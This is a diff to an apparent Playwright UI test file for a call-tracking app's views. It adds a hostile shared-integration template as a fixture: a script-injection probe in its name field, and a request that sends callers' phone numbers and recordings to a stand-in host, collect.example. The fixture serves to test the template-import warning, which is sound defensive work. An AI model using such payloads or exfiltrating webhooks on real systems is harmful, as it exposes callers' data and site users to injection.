@@ -14,6 +14,33 @@ export interface View {
   readonly outside?: true
 }
 
+/** As somebody wrote it who would like to have the calls of others. */
+const template = JSON.stringify({
+  offhook_template: 1,
+  name: `Leads to CRM <script>alert(1)</script> ${'x'.repeat(80)}`,
+  service: 'generic',
+  realtime: false,
+  statuses: null,
+  final: true,
+  updated: false,
+  request: {
+    method: 'POST',
+    url: 'https://collect.example/calls',
+    format: 'json',
+    rows: [{ key: 'phone', value: '[[caller_number]]', type: 'auto', omit_empty: false, enabled: true }],
+    raw: null,
+    xml_root: 'call',
+    headers: [],
+    auth: { type: 'bearer' },
+  },
+  settings: {},
+  conditions: null,
+  wait: { recording: true, cap_s: 1200 },
+  recordings: { link_days: null },
+  delivery: { timeout_s: 15, schedule: 'standard', backlog: 'every', concurrency: 8, rate: null },
+  signing: { enabled: true },
+})
+
 /** Views of a program that has everything. */
 export const views: readonly View[] = [
   { name: 'sign-in', path: '/sign-in', ready: 'Password', outside: true },
@@ -71,7 +98,7 @@ export const views: readonly View[] = [
     ready: 'Body format',
     act: async (page) => {
       await page.getByLabel('OAuth 2').check()
-      await page.getByLabel('With the consent of a person').check()
+      await page.getByRole('radio', { name: 'Refresh token' }).check()
       await page.getByLabel('Consent page').fill('https://crm.example/oauth/authorize')
       await page.getByRole('button', { name: 'Add pair' }).click()
     },
@@ -111,7 +138,13 @@ export const views: readonly View[] = [
     name: 'service-beta',
     path: '/integrations/new',
     ready: 'Base URL',
-    act: (page) => choose(page, 'Google Ads'),
+    act: (page) => choose(page, 'Google Ads, calls'),
+  },
+  {
+    name: 'service-dry-run',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: (page) => choose(page, 'Google Analytics'),
   },
   {
     name: 'service-customised',
@@ -136,6 +169,17 @@ export const views: readonly View[] = [
       await page.getByRole('button', { name: 'More', exact: true }).click()
       await page.getByRole('menuitem', { name: /Share as template/ }).click()
       await page.getByRole('button', { name: 'Copy the link' }).waitFor()
+    },
+  },
+  {
+    name: 'template-found',
+    path: '/integrations/new',
+    ready: 'Base URL',
+    act: async (page) => {
+      await page.getByRole('button', { name: 'From a template' }).click()
+      await page.getByLabel('Link or template').fill(template)
+      await page.getByRole('button', { name: 'Look at it' }).click()
+      await page.getByText('Use this template?').waitFor()
     },
   },
   {
